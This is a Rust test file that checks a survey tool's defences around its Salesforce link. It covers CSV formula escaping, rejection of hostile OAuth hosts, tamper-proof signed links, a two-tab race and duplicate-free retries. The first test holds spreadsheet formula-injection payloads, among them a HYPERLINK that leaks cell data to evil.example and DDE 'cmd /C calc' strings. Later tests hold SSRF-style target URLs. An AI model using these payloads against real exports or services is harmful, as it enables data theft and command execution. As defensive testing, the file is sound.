//! What an attacker or an unlucky network could make Sonde do to a linked org and to the
//! people who read its exports: links whose data steers Salesforce writes, a hostile "org"
//! that points Sonde at an internal service, replies lost after a create, formula cells in
//! CSV exports, and two tabs racing for one personal link.

use crate::harness::{backends, TestApp, PASSWORD};
use engine::Role;
use serde_json::{json, Value};

/// Every cell of a CSV export, rows of columns.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn exported_answers_never_become_spreadsheet_formulas() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let (admin, token) = app.org_user(Role::Admin).await;
        let id = app.sample_survey(&token).await;
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        for text in hostile {
            let r = app
                .post(&token, &format!("/api/v1/surveys/{id}/responses"))
                .json(&json!({
                    "answers": {"QID9": text},
                    "embeddedData": {"CaseId": text}
                }))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
        }
        let api = app
            .get(
                &token,
                &format!("/api/v1/surveys/{id}/responses?format=csv"),
            )
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        // The admin UI's export is the same document.
        let r = app.sign_in_web(&app.client, &admin.email, PASSWORD).await;
        assert_eq!(r.status(), 303);
        let ui = app
            .client
            .get(app.url(&format!("/surveys/{id}/export.csv")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for (name, text) in [("API", &api), ("UI", &ui)] {
            let rows = csv_rows(text);
            assert_eq!(rows.len(), 2 + hostile.len(), "{name}: {text}");
            let comments = rows[0].iter().position(|h| h == "Comments").unwrap();
            let case = rows[0].iter().position(|h| h == "CaseId").unwrap();
            let mut seen: Vec<&str> = Vec::new();
            for row in &rows[2..] {
                for cell in [&row[comments], &row[case]] {
                    assert!(
                        cell.starts_with('\''),
                        "{name} {backend:?}: {cell:?} would run as a formula"
                    );
                    seen.push(&cell[1..]);
                }
            }
            for h in hostile {
                assert!(seen.contains(&h), "{name}: {h:?} kept after the quote");
            }
        }
    }
}

#[tokio::test]
async fn two_tabs_opening_a_fresh_personal_link_share_one_response() {
    for backend in backends() {
        let app = TestApp::spawn(backend).await;
        let (admin, token) = app.org_user(Role::Editor).await;
        let id = app.sample_survey(&token).await;
        for round in 0..5 {
            let (contact, _) = app
                .sonde
                .save_contact(
                    &admin,
                    &json!({"email": format!("tab{round}@example.com")}),
                    None,
                )
                .await
                .unwrap();
            let link: Value = app
                .post(&token, &format!("/api/v1/surveys/{id}/links"))
                .json(&json!({"contactId": contact.id}))
                .send()
                .await
                .unwrap()
                .json()
                .await
                .unwrap();
            let url = link["url"].as_str().unwrap().to_string();
            // Two tabs: two clients without a shared cookie, opening the link and then
            // submitting its first page at the same moment.
            let (a, b) = (reqwest::Client::new(), reqwest::Client::new());
            let (ra, rb) = tokio::join!(a.get(&url).send(), b.get(&url).send());
            let (ra, rb) = (ra.unwrap(), rb.unwrap());
            assert_eq!(
                (ra.status().as_u16(), rb.status().as_u16()),
                (200, 200),
                "{backend:?}"
            );
            let (pa, pb) = (ra.text().await.unwrap(), rb.text().await.unwrap());
            for page in [&pa, &pb] {
                assert!(
                    !page.contains("already completed"),
                    "{backend:?} round {round}: a fresh link said completed:\n{page}"
                );
            }
            let first_page = |page: &str| {
                let mut form = sonde::bench::mapping::hidden_inputs(page);
                form.extend([("QID3".into(), "9".into()), ("QID4".into(), "1".into())]);
                form
            };
            let submit_url = app.url(&format!("/s/{id}"));
            let (ra, rb) = tokio::join!(
                a.post(&submit_url).form(&first_page(&pa)).send(),
                b.post(&submit_url).form(&first_page(&pb)).send()
            );
            let (ra, rb) = (ra.unwrap(), rb.unwrap());
            assert_eq!(
                (ra.status().as_u16(), rb.status().as_u16()),
                (200, 200),
                "{backend:?}"
            );
            let (pa, pb) = (ra.text().await.unwrap(), rb.text().await.unwrap());
            assert_eq!(
                crate::harness::hidden(&pa, "_response"),
                crate::harness::hidden(&pb, "_response"),
                "{backend:?}: one response"
            );
        }
        let (_, responses, _) = app
            .sonde
            .responses(&admin, &id, None, None, 100)
            .await
            .unwrap();
        assert_eq!(responses.len(), 5, "{backend:?}: one response per link");
    }
}

/// A listener that answers 200 to anything and records every request it gets (method, path
/// and Authorization header): an "internal service" a hostile org would like Sonde to call.
struct Recorder {
    url: String,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    _server: tokio::task::JoinHandle<()>,
}

impl Recorder {
    async fn start() -> Self {
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = seen.clone();
        let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
            let log = log.clone();
            async move {
                let auth = req
                    .headers()
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or("")
                    .to_string();
                log.lock()
                    .unwrap()
                    .push(format!("{} {} [{auth}]", req.method(), req.uri()));
                "ok"
            }
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let server = tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        Recorder {
            url,
            seen,
            _server: server,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// A hostile "org": its token endpoint answers the code `to-recorder` and every refresh with
/// an `instance_url` on the recorder; the code `honest` gets its own URL. Its REST API says
/// every session expired, so any call makes the client refresh.
async fn hostile_org(recorder: &str) -> (String, tokio::task::JoinHandle<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let own = format!("http://{}", listener.local_addr().unwrap());
    let (own_url, recorder) = (own.clone(), recorder.to_string());
    let token = move |axum::Form(form): axum::Form<std::collections::HashMap<String, String>>| {
        let instance = match (form.get("grant_type").map(String::as_str), form.get("code")) {
            (Some("authorization_code"), Some(code)) if code == "honest" => own_url.clone(),
            _ => recorder.clone(),
        };
        async move {
            axum::Json(json!({
                "access_token": "00Dhostile!bearer-token",
                "refresh_token": "5Aep-refresh",
                "instance_url": instance,
                "id": "https://login.salesforce.com/id/00D000000000001AAA/005000000000001AAA",
                "issued_at": "1700000000000",
                "token_type": "Bearer",
                "signature": "x"
            }))
        }
    };
    let expired = || async {
        (
            axum::http::StatusCode::UNAUTHORIZED,
            axum::Json(
                json!([{"message": "Session expired or invalid", "errorCode": "INVALID_SESSION_ID"}]),
            ),
        )
    };
    let app = axum::Router::new()
        .route("/services/oauth2/token", axum::routing::post(token))
        .fallback(expired);
    let server = tokio::spawn(async move {
        axum::serve(listener, app).await.unwrap();
    });
    (own, server)
}

fn linking_settings(allowed: &str) -> engine::connections::SalesforceSettings {
    let mut s = engine::connections::SalesforceSettings::defaults();
    s.client_id = Some("3MVG9test".into());
    s.client_secret = Some(salesforce::Secret::new("client-secret"));
    s.allowed_hosts = salesforce::AllowedHosts::parse(allowed).unwrap();
    s
}

async fn start_link(app: &TestApp, token: &str, login_url: &str) -> (u16, Value) {
    let r = app
        .post(token, "/api/v1/salesforce/connections")
        .json(&json!({"environment": "custom", "loginUrl": login_url}))
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap())
}

#[tokio::test]
async fn a_login_url_on_loopback_is_refused_unless_the_operator_allows_it() {
    let app = TestApp::spawn(crate::harness::Backend::Sqlite).await;
    app.sonde
        .set_secret_box(engine::secrets::SecretBox::from_key(&[3u8; 32]));
    let (_, token) = app.org_user(Role::Editor).await;
    let recorder = Recorder::start().await;
    let host = recorder.url.trim_start_matches("http://").to_string();
    app.sonde.configure_salesforce(linking_settings(""));
    for url in [
        recorder.url.clone(),
        format!("https://{host}"),
        "http://localhost:9".to_string(),
        "https://metadata.internal.example".to_string(),
        "https://login.salesforce.com.evil.example".to_string(),
    ] {
        let (status, body) = start_link(&app, &token, &url).await;
        assert_eq!(status, 400, "{url}: {body}");
        let text = body.to_string();
        assert!(
            text.contains("loginUrl") && text.contains("not a Salesforce host"),
            "{url}: {text}"
        );
        assert!(text.contains("SONDE_SALESFORCE_ALLOWED_HOSTS"), "{text}");
    }
    let (status, body) = start_link(&app, &token, "https://acme.my.salesforce.com").await;
    assert_eq!(status, 201, "a My Domain is fine: {body}");
    // Allowed explicitly, the same loopback URL starts linking.
    app.sonde.configure_salesforce(linking_settings(&host));
    let (status, body) = start_link(&app, &token, &recorder.url).await;
    assert_eq!(status, 201, "{body}");
    assert!(recorder.requests().is_empty(), "{:?}", recorder.requests());
}

#[tokio::test]
async fn a_token_response_naming_another_host_gets_no_bearer_token() {
    let app = TestApp::spawn(crate::harness::Backend::Sqlite).await;
    app.sonde
        .set_secret_box(engine::secrets::SecretBox::from_key(&[3u8; 32]));
    let (actor, token) = app.org_user(Role::Editor).await;
    let recorder = Recorder::start().await;
    let (org_url, _org) = hostile_org(&recorder.url).await;
    // The operator allowed the "org" itself (say, a proxy), never the internal service.
    app.sonde
        .configure_salesforce(linking_settings(org_url.trim_start_matches("http://")));
    let callback = |authorize: &str, code: &str| {
        let state = url::Url::parse(authorize)
            .unwrap()
            .query_pairs()
            .find(|(k, _)| k == "state")
            .unwrap()
            .1
            .into_owned();
        app.url(&format!(
            "/oauth/salesforce/callback?state={state}&code={code}"
        ))
    };

    // The code exchange names the recorder as the instance: nothing is linked.
    let (status, body) = start_link(&app, &token, &org_url).await;
    assert_eq!(status, 201, "{body}");
    let page = reqwest::get(callback(
        body["authorizeUrl"].as_str().unwrap(),
        "to-recorder",
    ))
    .await
    .unwrap();
    assert_eq!(page.status(), 400);
    let text = page.text().await.unwrap();
    assert!(
        text.contains("nothing was linked") && text.contains("not a Salesforce host"),
        "{text}"
    );
    let linked = app.sonde.salesforce_connections(&actor).await.unwrap();
    assert!(linked.iter().all(|c| c.status != "active"), "{linked:?}");

    // An honest exchange links; the refresh that a dead session triggers names the recorder
    // and is refused, so the call fails instead of following it.
    let (_, body) = start_link(&app, &token, &org_url).await;
    let page = reqwest::get(callback(body["authorizeUrl"].as_str().unwrap(), "honest"))
        .await
        .unwrap();
    assert_eq!(page.status(), 200, "{}", page.text().await.unwrap());
    let linked = app.sonde.salesforce_connections(&actor).await.unwrap();
    let conn = linked.iter().find(|c| c.status == "active").unwrap();
    let live = app.sonde.live_connection(&conn.id).await.unwrap();
    let e = live.describe("Account").await.unwrap_err();
    assert!(matches!(e, salesforce::Error::UntrustedHost(_)), "{e:?}");
    assert_eq!(
        live.instance_url(),
        org_url,
        "the instance stays where it was"
    );

    assert!(
        recorder.requests().is_empty(),
        "the internal service was called: {:?}",
        recorder.requests()
    );
}

// ---------------------------------------------------------------- links that pick records

/// An app linked to a local org (its host allowed), and an editor's API token.
struct Linked {
    app: TestApp,
    org: sfsim::RunningOrg,
    admin: salesforce::Connection,
    actor: engine::Actor,
    token: String,
    connection: String,
}

async fn linked(backend: crate::harness::Backend, org: sfsim::OrgBuilder) -> Linked {
    let org = org
        .seed(sfsim::Seed::Demo)
        .daily_api_limit(1_000_000)
        .start()
        .await
        .unwrap();
    let app = TestApp::spawn(backend).await;
    let mut s = crate::harness::sfsim_settings(&org);
    s.retry_base_ms = 1;
    app.sonde.configure_salesforce(s);
    app.sonde
        .set_secret_box(engine::secrets::SecretBox::from_key(&[9u8; 32]));
    let (actor, token) = app.org_user(Role::Editor).await;
    let connection = sonde::bench::mapping::link_org_via_oauth(
        &app.base,
        &token,
        org.login_url(),
        &org.username(),
        org.password(),
    )
    .await
    .unwrap();
    let admin = crate::harness::sfsim_admin(&org);
    Linked {
        app,
        org,
        admin,
        actor,
        token,
        connection,
    }
}

impl Linked {
    async fn case(&self, subject: &str) -> String {
        self.admin
            .create("Case", &json!({"Subject": subject}))
            .await
            .unwrap()
    }

    async fn case_exists(&self, id: &str) -> bool {
        let soql = format!("SELECT Id FROM Case WHERE Id = '{id}'");
        self.admin
            .count(&soql.replace("SELECT Id", "SELECT COUNT()"))
            .await
            .unwrap()
            == 1
    }

    /// Saves a workflow through the API; returns its JSON (with `warnings`).
    async fn workflow(&self, survey: &str, body: Value) -> Value {
        let r = self
            .app
            .post(&self.token, &format!("/api/v1/surveys/{survey}/workflows"))
            .json(&body)
            .send()
            .await
            .unwrap();
        let status = r.status();
        let v: Value = r.json().await.unwrap();
        assert_eq!(status, 201, "{v}");
        v
    }

    fn delete_case_workflow(&self, allow_unsigned: bool) -> Value {
        json!({
            "name": "Close the loop: delete the respondent's Case",
            "allowUnsignedRecordIds": allow_unsigned,
            "tasks": [{"type": "salesforce", "connectionId": self.connection, "object": "Case",
                       "operation": "delete", "recordId": "${e://Field/CaseId}"}]
        })
    }

    /// Opens `path` in a fresh browser and answers the whole survey.
    async fn answer(&self, survey: &str, path: &str) -> String {
        let first = reqwest::get(self.app.url(path)).await.unwrap();
        assert_eq!(first.status(), 200, "{path}");
        let def = survey::sample::sample_definition();
        let answers = sonde::bench::complete_answers(&def);
        crate::respondent::walk(
            &self.app,
            survey,
            &def,
            first.text().await.unwrap(),
            &answers,
        )
        .await
    }

    async fn responses(&self, survey: &str) -> Vec<Value> {
        self.app
            .get_json(&self.token, &format!("/api/v1/surveys/{survey}/responses"))
            .await["responses"]
            .as_array()
            .cloned()
            .unwrap_or_default()
    }

    async fn runs(&self, workflow: &str) -> Vec<Value> {
        self.app
            .get_json(&self.token, &format!("/api/v1/workflows/{workflow}/runs"))
            .await["runs"]
            .as_array()
            .cloned()
            .unwrap()
    }
}

/// HMAC-SHA256 in lowercase hex, computed here rather than by Sonde's code, over a canonical
/// string the test writes out by hand as `docs/signed-links.md` describes it.
fn hmac_hex(secret: &str, canonical: &str) -> String {
    use hmac::Mac;
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(secret.as_bytes()).unwrap();
    mac.update(canonical.as_bytes());
    hex::encode(mac.finalize().into_bytes())
}

#[tokio::test]
async fn editing_the_case_id_in_a_personal_link_changes_nothing() {
    for backend in backends() {
        let t = linked(backend, sfsim::Org::builder()).await;
        let survey = t.app.sample_survey(&t.token).await;
        let (ada_case, other_case) = (t.case("Ada's case").await, t.case("Someone else's").await);
        let wf = t.workflow(&survey, t.delete_case_workflow(false)).await;
        let warning = wf["warnings"].to_string();
        assert!(
            warning.contains("tasks[0].recordId") && warning.contains("link-signing"),
            "saving explains: {wf}"
        );
        let (contact, _) = t
            .app
            .sonde
            .save_contact(
                &t.actor,
                &json!({"email": "ada@example.com", "embeddedData": {"CaseId": ada_case}}),
                None,
            )
            .await
            .unwrap();
        let link: Value = t
            .app
            .post(&t.token, &format!("/api/v1/surveys/{survey}/links"))
            .json(&json!({"contactId": contact.id}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let url = link["url"].as_str().unwrap();
        let path = url.strip_prefix(&t.app.base).unwrap();
        // The respondent edits the link to aim at someone else's Case.
        let end = t
            .answer(
                &survey,
                &format!("{path}&CaseId={other_case}&caseid={other_case}"),
            )
            .await;
        assert!(end.contains("Thank"), "{end}");
        let r = &t.responses(&survey).await[0];
        assert_eq!(r["embeddedData"]["CaseId"], ada_case.as_str(), "{r}");
        assert_eq!(r["embeddedDataProvenance"]["CaseId"], "contact");
        t.app.sonde.drain_workflows().await.unwrap();
        let runs = t.runs(wf["id"].as_str().unwrap()).await;
        assert_eq!(runs[0]["status"], "succeeded", "{runs:?}");
        assert!(
            !t.case_exists(&ada_case).await,
            "the contact's own Case went"
        );
        assert!(
            t.case_exists(&other_case).await,
            "{backend:?}: the other Case stays"
        );
        t.org.shutdown().await;
    }
}

#[tokio::test]
async fn a_delete_on_an_unsigned_case_id_fails_unless_the_owner_opted_in() {
    for backend in backends() {
        let t = linked(backend, sfsim::Org::builder()).await;
        let survey = t.app.sample_survey(&t.token).await;
        let victim = t.case("Someone else's").await;
        let wf = t.workflow(&survey, t.delete_case_workflow(false)).await;
        let wf_id = wf["id"].as_str().unwrap().to_string();
        t.answer(&survey, &format!("/s/{survey}?CaseId={victim}"))
            .await;
        t.app.sonde.drain_workflows().await.unwrap();
        let runs = t.runs(&wf_id).await;
        assert_eq!(runs[0]["status"], "failed", "{runs:?}");
        let why = runs[0]["error"].as_str().unwrap();
        assert!(
            why.contains("CaseId")
                && why.contains("not signed")
                && why.contains("allowUnsignedRecordIds"),
            "{why}"
        );
        assert!(
            t.case_exists(&victim).await,
            "{backend:?}: nothing was deleted"
        );

        // The owner accepts unsigned ids: saving says what that means, and the retried run deletes.
        let mut body = t.delete_case_workflow(true);
        body["name"] = json!("Delete any Case named in the link");
        let r = t
            .app
            .client
            .put(t.app.url(&format!("/api/v1/workflows/{wf_id}")))
            .bearer_auth(&t.token)
            .json(&body)
            .send()
            .await
            .unwrap();
        let saved: Value = r.json().await.unwrap();
        let warning = saved["warnings"].to_string();
        assert!(
            warning.contains("allowUnsignedRecordIds") && warning.contains("anyone who edits"),
            "{saved}"
        );
        let run_id = runs[0]["id"].as_str().unwrap();
        let r = t
            .app
            .post(
                &t.token,
                &format!("/api/v1/workflows/{wf_id}/runs/{run_id}/retry"),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
        t.app.sonde.drain_workflows().await.unwrap();
        assert_eq!(t.runs(&wf_id).await[0]["status"], "succeeded");
        assert!(!t.case_exists(&victim).await);
        t.org.shutdown().await;
    }
}

#[tokio::test]
async fn signed_links_are_used_and_tampered_ones_refused() {
    for backend in backends() {
        let t = linked(backend, sfsim::Org::builder()).await;
        let survey = t.app.sample_survey(&t.token).await;
        let (own, other) = (t.case("Theirs").await, t.case("Someone else's").await);
        let wf = t.workflow(&survey, t.delete_case_workflow(false)).await;
        let signing_path = format!("/api/v1/surveys/{survey}/link-signing");
        let before: Value = t.app.get_json(&t.token, &signing_path).await;
        assert_eq!(before["secret"], Value::Null);
        let set: Value = t
            .app
            .client
            .put(t.app.url(&signing_path))
            .bearer_auth(&t.token)
            .json(&json!({"required": false}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let secret = set["secret"].as_str().unwrap().to_string();
        assert_eq!(set["signatureParameter"], "sig");

        // As Apex would build it: parameters sorted by name, form-urlencoded, joined by &.
        let expires = store::now_ms() / 1000 + 3600;
        let canonical = format!("CaseId={own}&expires={expires}");
        let sig = hmac_hex(&secret, &canonical);
        let end = t
            .answer(&survey, &format!("/s/{survey}?{canonical}&sig={sig}"))
            .await;
        assert!(end.contains("Thank"), "{end}");
        let r = &t.responses(&survey).await[0];
        assert_eq!(r["embeddedData"]["CaseId"], own.as_str());
        assert_eq!(r["embeddedDataProvenance"]["CaseId"], "signed_url");
        t.app.sonde.drain_workflows().await.unwrap();
        let runs = t.runs(wf["id"].as_str().unwrap()).await;
        assert_eq!(runs[0]["status"], "succeeded", "{runs:?}");
        assert!(!t.case_exists(&own).await, "the signed Case was deleted");

        let refused = |path: String| {
            let url = t.app.url(&path);
            async move {
                let r = reqwest::get(url).await.unwrap();
                (r.status().as_u16(), r.text().await.unwrap())
            }
        };
        // Tampered (another Case, same signature), expired, unsigned where required, a
        // signature made with another key: refused with a page, and nothing recorded.
        let (status, page) = refused(format!(
            "/s/{survey}?CaseId={other}&expires={expires}&sig={sig}"
        ))
        .await;
        assert_eq!(status, 403, "{page}");
        assert!(
            page.contains("cannot be used") && page.contains("changed"),
            "{page}"
        );
        let old = format!("CaseId={other}&expires=1000");
        let (status, page) =
            refused(format!("/s/{survey}?{old}&sig={}", hmac_hex(&secret, &old))).await;
        assert_eq!(status, 403);
        assert!(page.contains("expired"), "{page}");
        let rotated: Value = t
            .app
            .post(&t.token, &format!("{signing_path}/rotate"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_ne!(rotated["secret"], secret.as_str());
        let (status, _) = refused(format!("/s/{survey}?{canonical}&sig={sig}")).await;
        assert_eq!(status, 403, "the old key's links stop working");
        t.app
            .client
            .put(t.app.url(&signing_path))
            .bearer_auth(&t.token)
            .json(&json!({"required": true}))
            .send()
            .await
            .unwrap();
        let (status, page) = refused(format!("/s/{survey}?CaseId={other}")).await;
        assert_eq!(status, 403);
        assert!(page.contains("only accepts signed links"), "{page}");
        assert_eq!(
            t.responses(&survey).await.len(),
            1,
            "{backend:?}: nothing recorded"
        );
        assert!(t.case_exists(&other).await);
        // Saving now says nothing about unsigned ids: every link value is signed.
        let again = t.workflow(&survey, t.delete_case_workflow(false)).await;
        assert!(
            !again["warnings"].to_string().contains("recordId"),
            "{again}"
        );
        t.org.shutdown().await;
    }
}

#[tokio::test]
async fn viewers_cannot_read_a_surveys_signing_secret() {
    let app = TestApp::spawn(crate::harness::Backend::Sqlite).await;
    app.sonde
        .set_secret_box(engine::secrets::SecretBox::from_key(&[9u8; 32]));
    let (editor, token) = app.org_user(Role::Editor).await;
    let survey = app.sample_survey(&token).await;
    let (viewer, viewer_token) = app.user_in(&editor.org_id, Role::Viewer).await;
    app.sonde
        .share_survey(&editor, &survey, &viewer.email)
        .await
        .unwrap();
    let path = format!("/api/v1/surveys/{survey}/link-signing");
    let r = app.get(&viewer_token, &path).send().await.unwrap();
    assert_eq!(r.status(), 403);
    let r = app
        .client
        .put(app.url(&path))
        .bearer_auth(&viewer_token)
        .json(&json!({"required": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
}

// ---------------------------------------------------------------- creates whose reply is lost

/// Case gets a unique (not external id) field a workflow can fill with the response id.
const CASE_MARKER: &str = r#"
objects:
  - name: Case
    fields:
      - {name: Sonde_Response__c, type: text, length: 64, unique: true, label: Sonde Response}
"#;

fn case_workflow(connection: &str, marker: bool) -> Value {
    let mut fields = json!({
        "Subject": {"piped": "Survey follow-up ${rm://ResponseID}"},
        "Description": {"piped": "${q://QID9/ChoiceTextEntryValue}"}
    });
    if marker {
        fields["Sonde_Response__c"] = json!({"piped": "${rm://ResponseID}"});
    }
    json!({
        "name": if marker { "A Case per response, marked" } else { "A Case per response" },
        "tasks": [{"type": "salesforce", "connectionId": connection, "object": "Case",
                   "operation": "create", "fields": fields}]
    })
}

#[tokio::test]
async fn saving_a_create_without_an_external_id_warns_that_retries_can_duplicate() {
    let t = linked(
        crate::harness::Backend::Sqlite,
        sfsim::Org::builder().metadata(sfsim::MetadataFile::parse(CASE_MARKER).unwrap()),
    )
    .await;
    let survey = t.app.sample_survey(&t.token).await;
    let plain = t
        .workflow(&survey, case_workflow(&t.connection, false))
        .await;
    let warnings = plain["warnings"].as_array().unwrap();
    let w = warnings
        .iter()
        .find(|w| w["field"] == "tasks[0]")
        .unwrap_or_else(|| panic!("no duplicate warning: {plain}"));
    let text = w["message"].as_str().unwrap();
    assert!(
        text.contains("second Case")
            && text.contains("External ID")
            && text.contains("${rm://ResponseID}"),
        "{text}"
    );
    let marked = t
        .workflow(&survey, case_workflow(&t.connection, true))
        .await;
    assert!(
        !marked["warnings"].to_string().contains("second Case"),
        "{marked}"
    );
    // The editor shows the saved workflow's warnings.
    let r = t
        .app
        .sign_in_web(&t.app.client, &t.actor.email, PASSWORD)
        .await;
    assert_eq!(r.status(), 303);
    let page = t
        .app
        .client
        .get(
            t.app
                .url(&format!("/workflows/{}", plain["id"].as_str().unwrap())),
        )
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("id=\"warnings\"") && page.contains("second Case"),
        "{page}"
    );
    t.org.shutdown().await;
}

#[tokio::test]
async fn a_create_whose_reply_was_lost_is_written_once_when_it_carries_a_marker() {
    for backend in backends() {
        let t = linked(
            backend,
            sfsim::Org::builder().metadata(sfsim::MetadataFile::parse(CASE_MARKER).unwrap()),
        )
        .await;
        let survey = t.app.sample_survey(&t.token).await;
        let wf = t
            .workflow(&survey, case_workflow(&t.connection, true))
            .await;
        for _ in 0..10 {
            let r = t
                .app
                .post(&t.token, &format!("/api/v1/surveys/{survey}/responses"))
                .body(sonde::bench::sample_response_body())
                .header("content-type", "application/json")
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 201);
        }
        // Salesforce saves the ten Cases, and the reply to that call is lost.
        t.org.set_faults(sfsim::Faults {
            lost_reply_rate: 1.0,
            endpoints: vec!["collections.create".into()],
            ..Default::default()
        });
        let first = t
            .app
            .sonde
            .try_execute_workflows("lossy", 1000)
            .await
            .unwrap();
        assert_eq!((first.claimed, first.retried), (10, 10), "{first:?}");
        assert_eq!(
            t.admin
                .count("SELECT COUNT() FROM Case WHERE Sonde_Response__c != null")
                .await
                .unwrap(),
            10,
            "the lost call did write"
        );
        t.org.clear_faults();
        t.org.reset_calls();
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        t.app.sonde.drain_workflows().await.unwrap();
        // One lookup for the whole group, never one call per record, and nothing re-created.
        let calls = t.org.calls();
        assert_eq!(calls.get("query").copied().unwrap_or(0), 1, "{calls:?}");
        assert_eq!(
            calls.get("collections.create").copied().unwrap_or(0),
            0,
            "{calls:?}"
        );
        let runs = t.runs(wf["id"].as_str().unwrap()).await;
        assert_eq!(runs.len(), 10);
        let mut ids = std::collections::HashSet::new();
        for run in &runs {
            assert_eq!(run["status"], "succeeded", "{backend:?}: {run}");
            ids.insert(run["tasks"][0]["recordId"].as_str().unwrap().to_string());
        }
        assert_eq!(
            t.admin
                .count("SELECT COUNT() FROM Case WHERE Sonde_Response__c != null")
                .await
                .unwrap(),
            10,
            "{backend:?}: no Case was written twice"
        );
        assert_eq!(ids.len(), 10, "each run names its own Case");
        t.org.shutdown().await;
    }
}
